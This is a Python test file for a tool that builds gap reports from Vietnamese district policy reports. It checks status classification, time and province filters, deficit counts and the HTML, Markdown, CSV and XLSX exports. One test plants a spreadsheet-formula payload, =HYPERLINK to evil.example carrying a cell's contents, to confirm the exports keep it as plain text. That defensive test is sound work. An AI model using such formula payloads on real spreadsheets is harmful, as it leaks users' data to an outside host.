"""The gap report on the sample graph: every status kind on real cases, scope, time, numbers, formats."""

from __future__ import annotations

import datetime as dt
import re
from collections import Counter

import pytest

from conftest import REPORTS
from policykg.pipeline import build
from policykg.reports.gaps import GapsError, collect, parse_period, render_csv, render_html, render_md, write_xlsx
from policykg.sparql import load_query
from policykg.store import GraphStore


@pytest.fixture(scope="module")
def gaps(sample_store):
    return collect(sample_store)


def cell(data, district: str, mandate: str) -> str | None:
    found = [c.status for c in data.cells if c.districtName == district and c.mandateNumber == mandate]
    return found[0] if found else None


def test_implemented_through_the_huyen_uy_plan(gaps):
    assert cell(gaps, "Huyện Hớn Quản", "04-NQ/TU") == "implemented"
    items = [e for e in gaps.evidence if e.mandateNumber == "04-NQ/TU" and e.kind == "implemented"]
    assert {e.viaNumber for e in items} == {"30-KH/HU"}
    assert any("triển khai thực hiện Nghị quyết 04-NQ/TU" in (e.quote or "") for e in items)
    lag = [r for r in gaps.implementation if r.mandateNumber == "04-NQ/TU"]
    assert [(r.districtName, r.firstPlanDate, int(r.lagDays)) for r in lag] == \
        [("Huyện Hớn Quản", dt.date(2021, 7, 30), 73)]  # 18/5/2021 -> 30/7/2021


def test_evidence_only_one_stop_shop_without_naming_61_2018(gaps):
    assert cell(gaps, "Huyện Minh Long", "61/2018/NĐ-CP") == "evidence"
    quotes = [e.quote for e in gaps.evidence if e.mandateNumber == "61/2018/NĐ-CP" and
              e.district.endswith("/531")]
    assert any(q.startswith("Phần mềm một cửa điện dùng chung") for q in quotes)


def test_cited_and_none(gaps):
    assert cell(gaps, "Thị xã Đức Phổ", "61/2018/NĐ-CP") == "cited"
    assert cell(gaps, "Huyện Minh Long", "45/2020/NĐ-CP") == "mentioned"  # only as a difficulty


def test_a_provincial_party_resolution_is_out_of_scope_elsewhere(gaps):
    assert cell(gaps, "Huyện Minh Long", "04-NQ/TU") is None
    assert cell(gaps, "Thị xã Đức Phổ", "04-NQ/TU") is None


def test_superseded_basis_is_a_warning_in_mid_2022(gaps):
    assert {(s.districtName, s.citedNumber, s.status) for s in gaps.superseded} == {
        ("Huyện Minh Long", "43/2011/NĐ-CP", "uncertain"),
        ("Thị xã Đức Phổ", "43/2011/NĐ-CP", "uncertain")}


def test_deficit_and_overdue_follow_from_the_cells(gaps):
    for d in gaps.deficit:
        mine = [c for c in gaps.cells if c.district == d.district]
        in_scope = [c for c in mine if c.status != "uncertain"]
        gaps_here = sum(c.status in ("evidence", "mentioned", "none") for c in mine)
        assert int(d.inScope) == len(in_scope)
        assert float(d.deficitPercent) == pytest.approx(round(1000 * gaps_here / len(in_scope)) / 10)
    overdue = {d.districtName: int(d.overdue) for d in gaps.deficit}
    # 17/NQ-CP's 2020 target of online dossiers: no rate in these reports; Phụng Hiệp and Mỹ Hào state one that meets it
    assert overdue == {"Huyện Minh Long": 1, "Thị xã Đức Phổ": 1, "Huyện Hớn Quản": 1, "Huyện Phụng Hiệp": 0,
                       "Thị xã Mỹ Hào": 0}


def test_indicators_against_targets(gaps):
    verdicts = {(t.districtName, t.obligation.rsplit("/", 1)[-1]): (t.value, t.verdict)
                for t in gaps.targets}
    assert verdicts[("Thị xã Đức Phổ", "online-work-records-district-2025")] == (80, "met")
    assert verdicts[("Thị xã Đức Phổ", "online-work-records-commune-2025")] == (60, "met")
    assert verdicts[("Huyện Minh Long", "online-work-records-district-2025")] == (None, "no data")


def test_trend_by_year_and_conflicts(gaps):
    assert [t.year for t in gaps.trend] == [2022, 2023, 2024]
    assert {c.documentNumber for c in gaps.conflicts} == {"468/QĐ-TTg", "107/2021/NĐ-CP"}


def test_period_and_province_filters(sample_store):
    assert {d.districtName for d in collect(sample_store, period="2022").deficit} == {"Huyện Minh Long",
                                                                                         "Thị xã Đức Phổ"}
    assert {d.districtName for d in collect(sample_store, province="Bình Phước").deficit} == {"Huyện Hớn Quản"}
    assert parse_period("2023-Q2") == ("2023-04-01", "2023-06-30")
    assert parse_period("2022-H2") == ("2022-07-01", "2022-12-31")
    with pytest.raises(GapsError, match="--period"):
        parse_period("last year")
    with pytest.raises(GapsError, match="no such province"):
        collect(sample_store, province="Atlantis")


def test_a_report_is_judged_against_what_was_in_force_then(tmp_path):
    report = tmp_path / "early.txt"
    report.write_text("Minh Long, ngày 10 tháng 3 năm 2021\nBÁO CÁO\n\nUBND huyện Minh Long báo cáo như sau:\n"
                      "- Bộ phận một cửa hoạt động tốt.\n", encoding="utf-8")
    store = GraphStore(tmp_path / "s")
    build([report], store, progress=False)
    data = collect(store)
    assert cell(data, "Huyện Minh Long", "42/2022/NĐ-CP") is None  # signed 24/6/2022, after this report
    assert cell(data, "Huyện Minh Long", "61/2018/NĐ-CP") == "evidence"


def test_formats(gaps, tmp_path):
    page = render_html(gaps)
    for d in gaps.deficit:
        assert d.districtName in page
    for e_anchor in re.findall(r'href="#(x-e-[^"]+)"', page):
        assert f'id="{e_anchor}"' in page  # every matrix cell opens its evidence
    assert "| Huyện Hớn Quản |" in render_md(gaps)
    assert render_csv(gaps).splitlines()[0].startswith("district,districtName")
    write_xlsx(gaps, tmp_path / "g.xlsx")
    from openpyxl import load_workbook
    sheet = load_workbook(tmp_path / "g.xlsx")["Ma trận"]
    assert [c.value for c in sheet[1]][:4] == ["Đơn vị", "Tỉnh", "Khoảng trống %", "Quá hạn"]
    assert sheet.max_row == 1 + len(gaps.deficit)


def test_html_is_self_contained(gaps):
    page = render_html(gaps)
    assert "<script" not in page and "<link" not in page and "@import" not in page
    assert not re.search(r'src="(?!data:)', page)


def test_report_text_never_becomes_a_spreadsheet_formula(tmp_path):
    """A report sentence that starts like a formula stays text in the CSV and XLSX exports."""
    from openpyxl import load_workbook

    from policykg.cli import main

    source = (REPORTS / "000_465f813c91986d41.txt").read_text(encoding="utf-8")
    hostile = '=HYPERLINK("http://evil.example/?d="&A2,"xem") Công tác giải quyết hồ sơ qua dịch vụ công trực tuyến ' \
              'được triển khai thực hiện tốt.'
    anchor = "- Việc thực hiện chuyển đổi số, đặc biệt trong giải quyết thủ tục hành chính"
    assert anchor in source
    (tmp_path / "r").mkdir()
    (tmp_path / "r" / "hon_quan.txt").write_text(source.replace(anchor, hostile + "\n" + anchor), encoding="utf-8")
    store = GraphStore(tmp_path / "store")
    build([tmp_path / "r"], store, progress=False)
    from policykg.scoreboard import mark_stale
    mark_stale(store)  # every piece of evidence ranked now, not the scoreboard's first few, where it may not be
    data = collect(store)
    quotes = [e.quote for c in data.cells for e in data.evidence_for(c.district, c.mandate)]
    assert any(q.startswith("=HYPERLINK") for q in quotes), "the hostile sentence is evidence (else this tests nothing)"
    write_xlsx(data, tmp_path / "g.xlsx")
    book = load_workbook(tmp_path / "g.xlsx")
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert any(isinstance(c.value, str) and c.value.startswith("=HYPERLINK") for c in cells)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    store.flush()
    del store  # the CLI opens the store itself
    import contextlib
    import csv as csv_module
    import io
    buffer = io.StringIO()
    with contextlib.redirect_stdout(buffer):
        assert main(["query", "gap-evidence", "--format", "csv", "--store", str(tmp_path / "store")]) == 0
    fields = [f for row in csv_module.reader(buffer.getvalue().splitlines()) for f in row]
    assert any(f.startswith("'=HYPERLINK") for f in fields) and not any(f.startswith("=") for f in fields)


def test_a_report_over_many_units_counts_each_units_statements(sample_store, monkeypatch):
    """Over more units than DETAIL_UNITS (the country), a unit's section counts its difficulties and
    recommendations, and its citations of replaced documents, rather than quoting each; the counts are those of
    the quotes a province's report lists."""
    from collections import Counter

    from policykg.reports import gaps as module

    detailed = collect(sample_store)
    assert detailed.detailed  # each sample unit has one report: its latest, quoted whole
    quoted = Counter((s.district, s.sectionName) for s in detailed.latest_statements)
    monkeypatch.setattr(module, "DETAIL_UNITS", 3)
    national = collect(sample_store)
    assert not national.detailed and len(national.deficit) == 5
    counted = {(c.district, c.sectionName): int(c.statements) for c in national.statement_counts}
    assert counted == dict(quoted) and sum(counted.values()) > 20
    page = render_html(national)
    assert "từng ý của báo cáo mới nhất trong báo cáo theo tỉnh: --province" in page
    import html

    evidence = {e.quote for e in national.evidence}
    only_said = [html.escape(s.quote, quote=False) for s in detailed.latest_statements if s.quote not in evidence]
    shown_in_detail = [q for q in only_said if q in render_html(detailed)]
    assert shown_in_detail and not any(q in page for q in shown_in_detail)
    assert collect(sample_store, province="Bình Phước").detailed  # a province's report quotes them
    # each unit's citations of replaced documents counted per document and verdict, as the listed ones add up
    listed = Counter((s.district, s.cited, s.replacement, s.status) for s in detailed.superseded)
    grouped = {(s.district, s.cited, s.replacement, s.status): int(s.citations) for s in national.superseded_counts}
    assert grouped and grouped == dict(listed)
    assert national.superseded_finding_count == detailed.superseded_finding_count
    for s in national.superseded_counts:
        mine = [x for x in detailed.superseded if (x.district, x.cited, x.replacement, x.status)
                == (s.district, s.cited, s.replacement, s.status)]
        assert int(s.reports) == len({x.report for x in mine})
        assert (s.earliest, s.latest) == (min(x.earliest for x in mine), max(x.latest for x in mine))
    quoted = [html.escape(s.quote, quote=False) for s in detailed.superseded if s.quote and s.quote not in evidence]
    assert quoted and any(q in render_html(detailed) for q in quoted)
    assert not any(q in page for q in quoted) and "lần dẫn trong" in page and "từng lần dẫn của báo cáo mới nhất, kèm câu trích" in page
    # each target's standing over the units, as the units' own rows say (each unit's figures: the province's)
    figures = [t for t in detailed.targets if t.value is not None]
    summary = {t.obligation: (int(t.units), int(t.unitsMet), int(t.unitsNotMet)) for t in national.target_summary}
    expected = {o: (len({t.district for t in figures if t.obligation == o}),
                    len({t.district for t in figures if t.obligation == o and t.verdict == "met"}),
                    len({t.district for t in figures if t.obligation == o and t.verdict == "not met"}))
                for o in {t.obligation for t in figures}}
    assert summary == expected and summary
    assert "Chỉ số so với chỉ tiêu</h2>" in page and "Chỉ số so với chỉ tiêu</h2>" not in render_html(detailed)
    # the strongest piece of each cell only, with the cell's count of them all
    for c in national.cells:
        kept, every = national.evidence_for(c.district, c.mandate), detailed.evidence_for(c.district, c.mandate)
        assert len(kept) <= 1 and kept[:1] == every[:1]
        assert national.evidence_count(c.district, c.mandate) == detailed.evidence_count(c.district, c.mandate)


def test_a_unit_is_quoted_from_its_latest_report_and_its_earlier_ones_are_counted(tmp_path):
    """A province's report quotes what each unit says now (its latest report in the period) and counts what its
    earlier reports said: quoting every report of every unit grew with the years kept (~140 reports a unit at
    100,000 reports). Real text: Hớn Quản's report of October 2023, and the same report a year later with one
    difficulty said differently."""
    import html

    earlier = (REPORTS / "000_465f813c91986d41.txt").read_text(encoding="utf-8")
    old = ("Cán bộ truyền thanh xã, phường trình độ công nghệ thông tin còn hạn chế, nên quá trình vận hành cũng "
           "như khắc phục các lỗi hư hỏng nhỏ còn chưa thực hiện được kịp thời.")
    new = ("Hệ thống truyền thanh xã, phường đã xuống cấp, nên quá trình vận hành cũng như khắc phục các lỗi hư "
           "hỏng nhỏ còn chưa thực hiện được kịp thời.")
    assert old in earlier and "tháng 10/2023)" in earlier
    later = earlier.replace(old, new).replace("tháng 10/2023)", "tháng 10/2024)")
    folder = tmp_path / "reports"
    folder.mkdir()
    (folder / "hon-quan-2023-10.txt").write_text(earlier, encoding="utf-8")
    (folder / "hon-quan-2024-10.txt").write_text(later, encoding="utf-8")
    store = GraphStore(tmp_path / "store")
    assert not build([folder], store, progress=False).failed

    data = collect(store, province="Bình Phước")
    [unit] = data.deficit
    [latest] = data.of(unit.district, "latest")
    assert (str(latest.referenceDate), int(latest.reports)) == ("2024-10-31", 2)
    assert data.earlier_reports(unit.district) == 1
    page = render_html(data)
    assert html.escape(new, quote=False) in page and html.escape(old, quote=False) not in page
    assert "báo cáo mới nhất của đơn vị trong kỳ" in page and "1 báo cáo trước đó chỉ được đếm" in page
    # the counts cover both reports: each section's statements in the two reports, as the live query lists them
    from policykg.query.runner import select

    listed = Counter(s.sectionName for s in select(store, load_query("district-statements"),
                                                   {"district": unit.district}))
    counted = {c.sectionName: int(c.statements) for c in data.statement_counts}
    quoted = Counter(s.sectionName for s in data.latest_statements)
    assert counted == dict(listed) == {section: 2 * n for section, n in quoted.items()} and quoted
    assert all(s.report == latest.report for s in data.latest_statements + data.latest_superseded)
    # the same unit over 2023 only: its report of October 2023 is the latest, and the only one
    year = collect(store, province="Bình Phước", period="2023")
    [then] = year.of(unit.district, "latest")
    assert (str(then.referenceDate), int(then.reports), year.earlier_reports(unit.district)) == ("2023-10-31", 1, 0)
    assert html.escape(old, quote=False) in render_html(year)


def test_a_provinces_report_narrows_its_lists_to_its_units_and_loses_none(gaps, sample_store):
    """A province's report binds its units to each list's query (the whole country's first plans were computed
    and then filtered); the rows are the national report's rows of those units."""
    province = collect(sample_store, province="Quảng Ngãi")
    units = {d.district for d in province.deficit}
    assert len(units) == 2
    for name in ("implementation", "superseded", "targets", "latest", "latest_statements", "latest_superseded"):
        national = [r for r in getattr(gaps, name) if r.district in units]
        assert sorted(map(repr, getattr(province, name))) == sorted(map(repr, national)), name


def test_the_csv_runs_only_the_queries_it_prints(sample_store):
    """Each list is fetched when a format first reads it: the CSV (cells, deficits, evidence) never runs the
    statements, targets, implementation or reference-time queries the HTML page needs."""
    from policykg.reports.gaps import FETCHED

    data = collect(sample_store)
    render_csv(data)
    assert set(FETCHED) & set(vars(data)) == {"evidence"}
    render_html(data)
    assert {"latest_statements", "targets", "implementation", "latest_reference_times"} <= set(vars(data))


@pytest.mark.parametrize("fmt", ["html", "md", "csv", "xlsx"])
@pytest.mark.parametrize("detailed", [True, False])
def test_the_lists_fetched_ahead_for_a_format_are_those_it_reads(sample_store, tmp_path, fmt, detailed):
    """write_report fetches a format's lists at once, on threads: each one its rendering reads, and no other (an
    extra one would be a national query for nothing; a missing one, a query after the others)."""
    from policykg.reports import gaps

    def watched() -> tuple:
        data = collect(sample_store)
        data.detailed = detailed  # the samples' five units are detailed; the national form counts instead
        fetched, fetch = [], data.fetch
        data.fetch = lambda name: fetched.append(name) or fetch(name)
        return data, fetched

    data, fetched = watched()  # rendered alone, each list fetched as it is first read
    render = {"html": gaps.render_html, "md": gaps.render_md, "csv": gaps.render_csv,
              "xlsx": lambda d: gaps.write_xlsx(d, tmp_path / "alone.xlsx")}[fmt]
    render(data)
    read = set(fetched) - {"mandate_list"}  # read only when two mandates share a number
    assert read == set(gaps.reads(data, fmt))
    data, fetched = watched()  # written: fetched ahead, nothing after
    gaps.write_report(data, fmt, tmp_path / f"gaps.{fmt}")
    assert set(fetched) == read and len(fetched) == len(read)
